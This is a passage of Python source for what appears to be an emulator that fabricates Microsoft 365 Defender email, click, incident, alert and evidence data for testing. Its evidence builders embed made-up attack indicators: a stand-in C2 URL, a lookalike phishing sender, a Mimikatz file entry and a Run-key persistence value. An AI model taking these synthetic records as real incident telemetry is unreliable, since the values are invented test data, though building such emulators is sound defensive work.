            "SenderObjectId": "b.sender_oid",
            "SenderMailFromDomain": "split_part(b.sender, '@', 2)",
            "SenderFromDomain": "split_part(b.sender, '@', 2)",
            "SenderIPv4": "NULLIF(b.ip, '')",
            "RecipientEmailAddress": "b.recipient",
            "RecipientObjectId": "b.recipient_oid",
            "Subject": "b.subject",
            "EmailClusterId": f"{self.rand('cluster', 10**9, 'b.pidx')}",
            "EmailDirection": "b.direction",
            "DeliveryAction": "b.action",
            "DeliveryLocation": "CASE WHEN b.direction = 'Outbound' THEN 'On-premises/external' ELSE b.location END",
            "ThreatTypes": "b.threats",
            "DetectionMethods": "NULLIF(b.methods, '')",
            "ConfidenceLevel": "CASE WHEN b.threats LIKE '%Phish%' THEN '{\"Phish\":\"High\"}' WHEN b.threats = 'Spam' THEN '{\"Spam\":\"Normal\"}' END",
            "BulkComplaintLevel": "b.bcl",
            "AuthenticationDetails": "b.auth",
            "AttachmentCount": "0",
            "UrlCount": "0",
            "EmailLanguage": "'en'",
            "ReportId": "b.nmid || '-' || coalesce(b.recipient_oid, '0')",
            "LatestDeliveryAction": "CASE WHEN b.threats LIKE '%Phish%' AND b.action = 'Delivered' THEN 'Removed after delivery' ELSE b.action END",
            "LatestDeliveryLocation": "CASE WHEN b.threats LIKE '%Phish%' AND b.action = 'Delivered' THEN 'Quarantine' ELSE b.location END",
            "RecipientDomain": "split_part(b.recipient, '@', 2)",
            "EmailSize": f"2000 + {self.rand('size', 400_000)}",
        }
        self.insert("EmailEvents", columns, "FROM _mtp_mail_rows b")

    def email_pick(self, alias: str, per_day: int, mail_per_day: int, salt: str) -> str:
        """Join the message this row belongs to, chosen within the row's own day."""
        day = f"(b.i // {per_day})"
        return f"JOIN _mtp_mail_rows {alias} ON {alias}.i = {day} * {mail_per_day} + {self.rand(salt, mail_per_day)}"

    def attachment_info(self, per_day: int, mail_per_day: int) -> None:
        self.scope = "EmailAttachmentInfo"
        malicious = "e.threats LIKE '%Malware%'"
        clean = self.fill(self.pick([name for name, _ in ATTACHMENTS_CLEAN], "att"), user="''", host="''")
        bad = self.fill(self.pick([name for name, _ in ATTACHMENTS_MALWARE], "att"), user="''", host="''")
        name = f"CASE WHEN {malicious} THEN {bad} ELSE {clean} END"
        columns = {
            "Timestamp": "e._ts",
            "NetworkMessageId": "e.nmid",
            "SenderFromAddress": "e.sender",
            "SenderDisplayName": "e.sender_name",
            "SenderObjectId": "e.sender_oid",
            "RecipientEmailAddress": "e.recipient",
            "RecipientObjectId": "e.recipient_oid",
            "FileName": name,
            "FileType": f"split_part({name}, '.', -1)",
            "SHA256": f"sha256(lower({name}))",
            "FileSize": f"1000 + {self.rand('size', 5_000_000)}",
            "ThreatTypes": f"CASE WHEN {malicious} THEN 'Malware' ELSE '' END",
            "ThreatNames": f"CASE WHEN {malicious} THEN 'Trojan:Win32/Wacatac.B!ml' ELSE '' END",
            "DetectionMethods": f'CASE WHEN {malicious} THEN \'{{"Malware":["File detonation"]}}\' END',
            "ReportId": f"e.nmid || '-' || {self.rand('rid', 10**6)}",
        }
        source = f"FROM (SELECT range AS i FROM range({per_day * self.days})) b {self.email_pick('e', per_day, mail_per_day, 'att-msg')}"
        self.insert("EmailAttachmentInfo", columns, source, order="e._ts, b.i")

    def url_info(self, per_day: int, mail_per_day: int) -> None:
        """EmailUrlInfo rows, kept as ``_mtp_url_rows`` so clicks can point at them."""
        self.scope = "EmailUrlInfo"
        domain = "split_part(split_part(e.url, '://', 2), '/', 1)"
        self.con.execute(
            f"""
            CREATE OR REPLACE TEMP TABLE _mtp_url_rows AS
            SELECT b.i, e._ts, e.nmid, e.url, {domain} AS domain, e.recipient, e.threats,
                {self.pick(["Body", "Body", "Body", "Attachment", "Header"], "loc")} AS location
            FROM (SELECT range AS i FROM range({per_day * self.days})) b {self.email_pick("e", per_day, mail_per_day, "url-msg")}
            """
        )
        self.temp_tables.append("_mtp_url_rows")
        columns = {
            "Timestamp": "b._ts",
            "NetworkMessageId": "b.nmid",
            "Url": "b.url",
            "UrlDomain": "b.domain",
            "UrlLocation": "b.location",
            "ReportId": "b.nmid || '-u' || b.i",
        }
        self.insert("EmailUrlInfo", columns, "FROM _mtp_url_rows b")

    def url_clicks(self, per_day: int, url_per_day: int) -> None:
        self.scope = "UrlClickEvents"
        phish = "x.threats LIKE '%Phish%'"
        blocked = f"{phish} AND {self.rand('blk', 10)} < 7"
        # Clicks come minutes after delivery; clamped so nothing lands at or after `now`.
        last = (self.now - timedelta(microseconds=1)).isoformat()
        clicked = f"least(x._ts + to_microseconds({self.rand('delay', 1_800_000_000)}), TIMESTAMPTZ '{last}')"
        columns = {
            "Timestamp": clicked,
            "Url": "x.url",
            "ActionType": f"CASE WHEN {blocked} THEN 'ClickBlocked' ELSE 'ClickAllowed' END",
            "AccountUpn": "x.recipient",
            "Workload": "'Email'",
            "NetworkMessageId": "x.nmid",
            "ThreatTypes": "x.threats",
            "IPAddress": f"'{OFFICE_EGRESS_IP}'",
            "IsClickedThrough": f"NOT ({blocked}) AND {phish}",
            "ReportId": f"{self.guid('click')}",
            "AppName": "'Outlook'",
            "TimeGenerated": clicked,
        }
        url_pick = f"(b.i // {per_day}) * {url_per_day} + {self.rand('click-url', url_per_day)}"
        source = f"FROM (SELECT range AS i FROM range({per_day * self.days})) b JOIN _mtp_url_rows x ON x.i = {url_pick}"
        self.insert("UrlClickEvents", columns, source, order=f"{clicked}, b.i")


def _hash_columns(name: str) -> dict[str, str]:
    sha1, sha256, md5 = _file_hashes(name)
    return {"sha1": sha1, "sha256": sha256, "md5": md5}


def _duck_type(value: Any) -> str:
    if isinstance(value, bool):
        return "BOOLEAN"
    if isinstance(value, int):
        return "BIGINT"
    if isinstance(value, float):
        return "DOUBLE"
    return "VARCHAR"


# --------------------------------------------------------------------------------------------------
# Incidents and alerts (Python)
# --------------------------------------------------------------------------------------------------


def format_ticks(ticks: int) -> str:
    """``2024-05-02T08:43:35.5533333Z`` with trailing fractional zeros dropped, as the API writes."""
    return _format_ticks(ticks, trim=True)


class _IncidentFactory:
    """Builds incidents with embedded alerts; times are ticks quantised to 0-7 fractional digits."""

    def __init__(
        self,
        rng: random.Random,
        *,
        tenant_id: str,
        portal: str,
        now: datetime,
        days: int,
        devices: Sequence[Device],
        users: Sequence[User],
    ) -> None:
        self.rng = rng
        self.tenant_id = tenant_id
        self.portal = portal
        # One tick of headroom: a 7-digit time then never passes `now`.
        self.now = instant_ticks(now) - 1
        self.start = instant_ticks(now - timedelta(days=days))
        self.devices = devices
        self.users = users
        self.workstations = [d for d in devices if d.device_type == "Workstation"]
        self.servers = [d for d in devices if d.device_type == "Server" and d.role != "DomainController"]
        self.dcs = [d for d in devices if d.role == "DomainController"]
        self.people = [u for u in users if u.kind == "user"]
        self.analysts = [u for u in users if u.kind == "analyst"]
        self.user_by_name = {u.account_name: u for u in users}
        self.alert_ids: set[str] = set()

    # ---- time ----------------------------------------------------------------------------------

    def within(self, low: int, high: int, raw: float | None = None) -> int:
        """A quantised time in ``[low, high]``: floor to the chosen precision, else round up."""
        high = max(low, high)
        value = min(high, max(low, int(raw if raw is not None else self.rng.uniform(low, high))))
        step = 10 ** (7 - self.rng.choice(FRACTION_DIGITS))
        floored = value - value % step
        if floored >= low:
            return floored
        ceiled = floored + step
        return ceiled if ceiled <= high else value

    def created_time(self) -> int:
        """Incident creation: a fifth in the last six hours, the rest over the whole window."""
        earliest = min(self.start + 3 * 3600 * _TICKS_PER_SECOND, self.now - 600 * _TICKS_PER_SECOND)
        recent = self.now - int(self.rng.uniform(600, 6 * 3600)) * _TICKS_PER_SECOND
        raw = (
            recent
            if self.rng.random() < 0.2
            else self.rng.uniform(earliest, self.now - 600 * _TICKS_PER_SECOND)
        )
        return self.within(earliest, self.now, raw)

    def updated_time(self, created: int) -> int:
        """Last update: untouched, some hours later, or in the last few hours."""
        roll = self.rng.random()
        if roll < 0.3:
            raw = created + self.rng.uniform(1, 120) * _TICKS_PER_SECOND
        elif roll < 0.5:
            raw = self.now - self.rng.uniform(60, 3 * 3600) * _TICKS_PER_SECOND
        else:
            raw = self.rng.uniform(created, self.now)
        return self.within(created, self.now, raw)

    # ---- incidents -----------------------------------------------------------------------------

    def build(self, count: int) -> list[dict[str, Any]]:
        incidents = [self.incident(str(1000 + index)) for index in range(count)]
        self.redirect_some(incidents)
        return incidents

    def redirect_some(self, incidents: list[dict[str, Any]]) -> None:
        """About 3 % are merged into another incident; at least one once there are ten."""
        chosen = [index for index in range(len(incidents)) if self.rng.random() < 0.03]
        if not chosen and len(incidents) >= 10:
            chosen = [self.rng.randrange(len(incidents))]
        targets = [index for index in range(len(incidents)) if index not in chosen]
        for index in chosen:
            if not targets:
                break
            incident = incidents[index]
            incident["status"] = "redirected"
            incident["redirectIncidentId"] = incidents[self.rng.choice(targets)]["id"]

    def incident(self, incident_id: str) -> dict[str, Any]:
        scenario = self.rng.choices(SCENARIOS, weights=[s.weight for s in SCENARIOS])[0]
        device, user, peer = self.cast(scenario)
        created = self.created_time()
        updated = self.updated_time(created)
        status = self.rng.choices(("active", "inProgress", "resolved"), weights=(45, 20, 35))[0]
        classification, determination = self.verdict(status, scenario)
        assigned = (
            None if status == "active" and self.rng.random() < 0.6 else self.rng.choice(self.analysts).upn
        )
        keys = self.alert_keys(scenario)
        web_url = f"{self.portal}/incidents/{incident_id}?tid={self.tenant_id}"
        context = _AlertContext(
            incident_id=incident_id,
            web_url=web_url,
            created=created,
            updated=updated,
            status=status,
            classification=classification,
            determination=determination,
            assigned_to=assigned,
            device=device,
            user=user,
            peer=peer,
        )
        alerts = [self.alert(key, context, first=index == 0) for index, key in enumerate(keys)]
        severity = max((alert["severity"] for alert in alerts), key=SEVERITIES.index)
        return {
            "id": incident_id,
            "tenantId": self.tenant_id,
            "incidentWebUrl": web_url,
            "redirectIncidentId": None,
            "displayName": scenario.name.format(device=device.device_name, user=user.display_name),
            "createdDateTime": format_ticks(created),
            "lastUpdateDateTime": format_ticks(updated),
            "assignedTo": assigned,
            "classification": classification,
            "determination": determination,
            "status": status,
            "severity": severity,
            "customTags": self.rng.sample(CUSTOM_TAGS, self.rng.choice((0, 0, 1, 1, 2))),
            "systemTags": list(scenario.system_tags),
            "description": ALERT_TEMPLATES[keys[0]].description if self.rng.random() < 0.5 else None,
            "summary": None,
            "priorityScore": self.priority(severity),
            "lastModifiedBy": assigned or "Microsoft 365 Defender-AlertCorrelation",
            "resolvingComment": None,
            "comments": self.comments(status, created, updated, assigned),
            "alerts": alerts,
        }

    def cast(self, scenario: Scenario) -> tuple[Device, User, Device]:
        """The incident's main device, its user, and a second device for lateral movement."""
        pool = {"dc": self.dcs, "server": self.servers}.get(scenario.device_kind, self.workstations)
        device = self.rng.choice(pool)
        owner = self.user_by_name.get(device.primary_user)
        user = (
            owner
            if owner and owner.kind == "user" and pool is self.workstations
            else self.rng.choice(self.people)
        )
        if pool is self.dcs:
            # Identity alerts point at a user's workstation as the source, the DC as the target.
            device, peer = self.rng.choice(self.workstations), device
        else:
            peer = self.rng.choice([d for d in self.devices if d is not device])
        return device, user, peer

    def verdict(self, status: str, scenario: Scenario) -> tuple[str, str]:
        roll = self.rng.random()
        if status == "resolved":
            classification = (
                "truePositive"
                if roll < 0.55
                else "falsePositive"
                if roll < 0.75
                else "informationalExpectedActivity"
            )
        elif (status == "inProgress" and roll < 0.4) or roll < 0.1:
            classification = "truePositive"
        else:
            return "unknown", "unknown"
        choices = (
            scenario.determinations if classification == "truePositive" else DETERMINATIONS[classification]
        )
        return classification, self.rng.choice(choices)

    def alert_keys(self, scenario: Scenario) -> list[str]:
        count = self.rng.choice((1, 1, 1, 2, 2, 3, 4))
        extra = [self.rng.choice(scenario.alerts) for _ in range(count - 1)]
        return [scenario.alerts[0], *extra]

    def priority(self, severity: str) -> int:
        low, high = {"informational": (0, 15), "low": (5, 40), "medium": (30, 85), "high": (70, 100)}[
            severity
        ]
        return self.rng.randint(low, high)

    def comments(self, status: str, created: int, updated: int, assigned: str | None) -> list[dict[str, Any]]:
        if status == "active" and self.rng.random() < 0.7:
            return []
        author = assigned or self.rng.choice(self.analysts).upn
        times = sorted(self.within(created, updated) for _ in range(self.rng.choice((0, 1, 1, 2, 3))))
        return [
            {
                "comment": self.rng.choice(COMMENT_TEXTS),
                "createdByDisplayName": author,
                "createdDateTime": format_ticks(t),
            }
            for t in times
        ]

    # ---- alerts --------------------------------------------------------------------------------

    def alert(self, key: str, ctx: _AlertContext, *, first: bool) -> dict[str, Any]:
        template = ALERT_TEMPLATES[key]
        second = _TICKS_PER_SECOND
        created = (
            self.within(ctx.created, min(ctx.updated, ctx.created + 5 * second))
            if first
            else self.within(ctx.created, ctx.updated)
        )
        updated = self.within(created, ctx.updated)
        first_activity = self.within(
            max(self.start, created - 2 * 3600 * second), max(self.start, created - 60 * second)
        )
        first_activity = min(first_activity, created)
        last_activity = self.within(first_activity, created)
        resolved = ctx.status == "resolved"
        status = (
            "resolved"
            if resolved
            else "inProgress"
            if ctx.status == "inProgress"
            else self.rng.choice(("new", "new", "inProgress"))
        )
        alert_id = self.alert_id(template.service_source, created)
        severity = template.severity if self.rng.random() < 0.8 else self.rng.choice(SEVERITIES)
        return {
            "id": alert_id,
            "providerAlertId": alert_id,
            "incidentId": ctx.incident_id,
            "status": status,
            "severity": severity,
            "classification": ctx.classification,
            "determination": ctx.determination,
            "serviceSource": template.service_source,
            "detectionSource": template.detection_source,
            "detectorId": str(uuid.uuid5(uuid.NAMESPACE_URL, f"mtp-emulator/detector/{key}")),
            "tenantId": self.tenant_id,
            "title": template.title,
            "description": template.description,
            "recommendedActions": template.recommended_actions,
            "category": template.category,
            "assignedTo": ctx.assigned_to,
            "alertWebUrl": f"{self.portal}/alerts/{alert_id}?tid={self.tenant_id}",
            "incidentWebUrl": ctx.web_url,
            "actorDisplayName": None,
            "threatDisplayName": template.threat_family,
            "threatFamilyName": template.threat_family,
            "mitreTechniques": list(template.mitre),
            "createdDateTime": format_ticks(created),
            "lastUpdateDateTime": format_ticks(updated),
            "resolvedDateTime": format_ticks(updated) if resolved else None,
            "firstActivityDateTime": format_ticks(first_activity),
            "lastActivityDateTime": format_ticks(last_activity),
            "comments": [],
            "evidence": _Evidence(self.rng, template, ctx, created, resolved).build(),
            "systemTags": [],
        }

    def alert_id(self, service: str, created: int) -> str:
        """``da638501234567890123_1053928211``: a prefix, .NET ticks, and a number (maybe negative)."""
        while True:
            number = self.rng.randrange(-(2**31), 2**31)
            alert_id = f"{ALERT_ID_PREFIXES[service]}{created + _DOTNET_EPOCH_TICKS}_{number}"
            if alert_id not in self.alert_ids:
                self.alert_ids.add(alert_id)
                return alert_id


@dataclass(frozen=True, kw_only=True)
class _AlertContext:
    """What every alert of one incident shares."""

    incident_id: str
    web_url: str
    created: int
    updated: int
    status: str
    classification: str
    determination: str
    assigned_to: str | None
    device: Device
    user: User
    peer: Device


@dataclass
class _Evidence:
    """The typed evidence list of one alert (Graph ``alertEvidence`` subtypes)."""

    rng: random.Random
    template: AlertTemplate
    ctx: _AlertContext
    created: int
    resolved: bool
    items: list[dict[str, Any]] = field(default_factory=list)

    def build(self) -> list[dict[str, Any]]:
        makers = {
            "device": lambda: self.device(self.ctx.device, ["compromised"]),
            "peer": lambda: self.device(self.ctx.peer, ["destination"]),
            "user": self.user,
            "file": self.file,
            "process": self.process,
            "ip": self.ip,
            "url": self.url,
            "mailbox": self.mailbox,
            "message": self.message,
            "registry": self.registry,
        }
        for kind in self.template.evidence:
            self.items.append(makers[kind]())
        return self.items

    def common(self, kind: str, roles: list[str], verdict: str = "suspicious") -> dict[str, Any]:
        remediation = self.rng.choice(("remediated", "prevented", "blocked")) if self.resolved else "none"
        return {
            "@odata.type": f"#microsoft.graph.security.{kind}",
            "createdDateTime": format_ticks(self.created),
            "verdict": verdict,
            "remediationStatus": remediation,
            "remediationStatusDetails": None,
            "roles": roles,
            "detailedRoles": [],
            "tags": [],
        }

    def fill(self, text: str) -> str:
        return text.replace("{user}", self.ctx.user.account_name).replace("{host}", self.ctx.peer.device_name)

    def user_account(self, user: User) -> dict[str, Any]:
        return {
            "accountName": user.account_name,
            "domainName": user.account_domain,
            "userSid": user.sid,
            "azureAdUserId": user.object_id,
            "userPrincipalName": user.upn,
            "displayName": user.display_name,
        }

    def device(self, device: Device, roles: list[str]) -> dict[str, Any]:
        return {
            **self.common("deviceEvidence", roles, "unknown"),
            "firstSeenDateTime": format_ticks(instant_ticks(device.first_seen)),
            "mdeDeviceId": device.device_id,
            "azureAdDeviceId": device.aad_device_id or None,
            "deviceDnsName": device.dns_name,
            "hostName": device.device_name,
            "ntDomain": NETBIOS_DOMAIN,
            "dnsDomain": DOMAIN,
            "osPlatform": device.os_platform,
            "osBuild": device.os_build,
            "version": device.os_version,
            "healthStatus": "active",
            "riskScore": device.risk_score,
            "rbacGroupId": device.rbac_group_id,
            "rbacGroupName": device.rbac_group,
            "onboardingStatus": "onboarded",
            "defenderAvStatus": "updated",
            "lastIpAddress": device.ip,
            "lastExternalIpAddress": device.public_ip,
            "ipInterfaces": [device.ip],
            "loggedOnUsers": [{"accountName": self.ctx.user.account_name, "domainName": NETBIOS_DOMAIN}],
            "vmMetadata": None,
        }

    def user(self) -> dict[str, Any]:
        return {
            **self.common("userEvidence", ["compromised"]),
            "userAccount": self.user_account(self.ctx.user),
        }

    def file_details(self, name: str, folder: str, publisher: str | None) -> dict[str, Any]:
        sha1, sha256, md5 = _file_hashes(name)
        return {
            "fileName": name,
            "filePath": self.fill(folder).rstrip("\\"),
            "filePublisher": publisher,
            # Stable per file, so the same file has the same size in every alert.
            "fileSize": 50_000 + int(sha256[:6], 16) % 2_000_000,
            "issuer": None,
            "signer": publisher,
            "md5": md5,
            "sha1": sha1,
            "sha256": sha256,
            "sha256Ac": None,
        }

    def file(self) -> dict[str, Any]:
        name, folder, publisher = self.template.file or _MIMIKATZ_FILE
        return {
            **self.common("fileEvidence", [], "malicious"),
            "fileDetails": self.file_details(name, folder, publisher),
            "mdeDeviceId": self.ctx.device.device_id,
            "detectionStatus": "prevented" if self.resolved else "detected",
        }

    def process(self) -> dict[str, Any]:
        command = self.fill(self.template.command_line or "cmd.exe")
        image = command.split()[0].strip('"')
        folder = _SYS32 if image.lower() in _SYSTEM_BINARIES else "C:\\Users\\{user}\\Downloads\\"
        started = self.created - self.rng.randrange(60, 3600) * _TICKS_PER_SECOND
        parent_started = started - self.rng.randrange(60, 86_400) * _TICKS_PER_SECOND
        return {
            **self.common("processEvidence", [], "malicious"),
            "processId": 4 * self.rng.randrange(1, 4000),
            "parentProcessId": 4 * self.rng.randrange(1, 4000),
            "processCommandLine": command,
            "processCreationDateTime": format_ticks(started - started % _TICKS_PER_SECOND),
            "parentProcessCreationDateTime": format_ticks(
                parent_started - parent_started % _TICKS_PER_SECOND
            ),
            "imageFile": self.file_details(image, folder, None),
            "parentProcessImageFile": self.file_details(
                self.template.parent, "C:\\Windows\\System32\\", "Microsoft Corporation"
            ),
            "userAccount": self.user_account(self.ctx.user),
            "mdeDeviceId": self.ctx.device.device_id,
            "detectionStatus": "detected",
        }

    def ip(self) -> dict[str, Any]:
        address = self.template.ip or self.ctx.peer.ip
        return {
            **self.common("ipEvidence", ["attacker"], "malicious"),
            "ipAddress": address,
            "countryLetterCode": "RU",
        }

    def url(self) -> dict[str, Any]:
        return {
            **self.common("urlEvidence", [], "malicious"),
            "url": self.template.url or "http://evil-c2.example.net/",
        }

    def mailbox(self) -> dict[str, Any]:
        user = self.ctx.user
        return {
            **self.common("mailboxEvidence", ["compromised"], "unknown"),
            "primaryAddress": user.upn,
            "displayName": user.display_name,
            "userAccount": self.user_account(user),
        }

    def message(self) -> dict[str, Any]:
        sender = self.template.sender or "it-support@micros0ft-security.example"
        return {
            **self.common("analyzedMessageEvidence", [], "malicious"),
            "networkMessageId": str(uuid.UUID(int=self.rng.getrandbits(128), version=4)),
            "internetMessageId": f"<{self.rng.getrandbits(64):016x}@{sender.split('@')[1]}>",
            "subject": self.template.subject,
            "senderIp": "203.0.113.45",
            "recipientEmailAddress": self.ctx.user.upn,
            "p1Sender": {
                "emailAddress": sender,
                "displayName": "IT Support",
                "domainName": sender.split("@")[1],
            },
            "p2Sender": {
                "emailAddress": sender,
                "displayName": "IT Support",
                "domainName": sender.split("@")[1],
            },
            "deliveryAction": "delivered",
            "deliveryLocation": "inbox",
            "threats": ["Phish"],
            "threatDetectionMethods": ["urlMaliciousReputation"],
            "urlCount": 1,
            "attachmentsCount": 0,
            "receivedDateTime": format_ticks(self.created),
            "language": "en",
            "antiSpamDirection": "inbound",
        }

    def registry(self) -> dict[str, Any]:
        key, name, data = self.template.registry or (_RUN_KEY, "Updater", "C:\\Users\\Public\\updater.exe")
        hive, _, path = key.partition("\\")
        return {
            **self.common("registryValueEvidence", [], "suspicious"),
            "registryHive": hive,
            "registryKey": path,
            "registryValueName": name,
            "registryValue": data,
            "registryValueType": "String",
            "mdeDeviceId": self.ctx.device.device_id,
        }


# --------------------------------------------------------------------------------------------------
# AlertInfo and AlertEvidence rows from the incidents
# --------------------------------------------------------------------------------------------------


def _hunting_severity(value: str) -> str:
    return value[:1].upper() + value[1:]


def _attack_techniques(alert: Mapping[str, Any]) -> str:
    names = [f"{MITRE_TECHNIQUES.get(t, t)} ({t})" for t in alert.get("mitreTechniques") or []]
    return json.dumps(names)


def _alert_common(alert: Mapping[str, Any]) -> dict[str, Any]:
    return {
        "Timestamp": alert["createdDateTime"],
        "AlertId": alert["id"],
        "Title": alert["title"],
        "AttackTechniques": _attack_techniques(alert),
        "ServiceSource": SERVICE_SOURCE_NAMES.get(alert["serviceSource"], alert["serviceSource"]),
        "DetectionSource": DETECTION_SOURCE_NAMES.get(alert["detectionSource"], alert["detectionSource"]),
    }


def alert_info_rows(incidents: Sequence[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """One AlertInfo row per alert of the incidents, ordered by time."""
    rows = [
        {
            **_alert_common(alert),
            "Category": alert["category"],
            "Severity": _hunting_severity(alert["severity"]),
        }
        for incident in incidents
        for alert in incident["alerts"]
    ]
    return sorted(rows, key=lambda row: (_parse_datetime(row["Timestamp"]), row["AlertId"]))


def alert_evidence_rows(incidents: Sequence[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """One AlertEvidence row per evidence item of the incidents' alerts, ordered by time."""
    rows: list[dict[str, Any]] = []
    for incident in incidents:
        for alert in incident["alerts"]:
            common = {
                **_alert_common(alert),
                "Categories": json.dumps([alert["category"]]),
                "Severity": _hunting_severity(alert["severity"]),
            }
            device = next(
                (e for e in alert["evidence"] if e["@odata.type"].endswith(".deviceEvidence")), None
            )
            rows.extend({**common, **_evidence_columns(item, device)} for item in alert["evidence"])
    return sorted(rows, key=lambda row: (_parse_datetime(row["Timestamp"]), row["AlertId"]))


def _evidence_columns(item: Mapping[str, Any], device: Mapping[str, Any] | None) -> dict[str, Any]:
    """The AlertEvidence columns one evidence item fills."""
    kind = item["@odata.type"].rsplit(".", 1)[-1]
    entity_type, role = EVIDENCE_ENTITY_TYPES[kind]
    row: dict[str, Any] = {
        "EntityType": entity_type,
        "EvidenceRole": role,
        "AdditionalFields": json.dumps(
            {
                "Verdict": item["verdict"],
                "RemediationStatus": item["remediationStatus"],
                "Roles": item["roles"],
            }
        ),
    }
    source = item if kind == "deviceEvidence" else device if "mdeDeviceId" in item else None
    if source:
        row.update(
            DeviceId=source["mdeDeviceId"], DeviceName=source["hostName"], LocalIP=source["lastIpAddress"]
        )
    account = item.get("userAccount")
    if account and kind in ("userEvidence", "mailboxEvidence", "processEvidence"):
        row.update(
            AccountName=account["accountName"],
            AccountDomain=account["domainName"],
            AccountSid=account["userSid"],
            AccountObjectId=account["azureAdUserId"],
            AccountUpn=account["userPrincipalName"],
        )
    details = item.get("fileDetails") or item.get("imageFile")
    if details:
        row.update(
            FileName=details["fileName"],
            FolderPath=details["filePath"],
            SHA1=details["sha1"],
            SHA256=details["sha256"],
            FileSize=details["fileSize"],
        )
    row.update(_evidence_specifics(kind, item))
    return row


def _evidence_specifics(kind: str, item: Mapping[str, Any]) -> dict[str, Any]:
    if kind == "processEvidence":
        return {"ProcessCommandLine": item["processCommandLine"]}
    if kind == "ipEvidence":
        return {"RemoteIP": item["ipAddress"], "EvidenceDirection": "Source"}
    if kind == "urlEvidence":
        return {"RemoteUrl": item["url"]}
    if kind == "analyzedMessageEvidence":
        return {
            "NetworkMessageId": item["networkMessageId"],
            "EmailSubject": item["subject"],
            "AccountUpn": item["recipientEmailAddress"],
        }
    if kind == "registryValueEvidence":
        return {
            "RegistryKey": f"{item['registryHive']}\\{item['registryKey']}",
            "RegistryValueName": item["registryValueName"],
            "RegistryValueData": item["registryValue"],
        }
    return {}
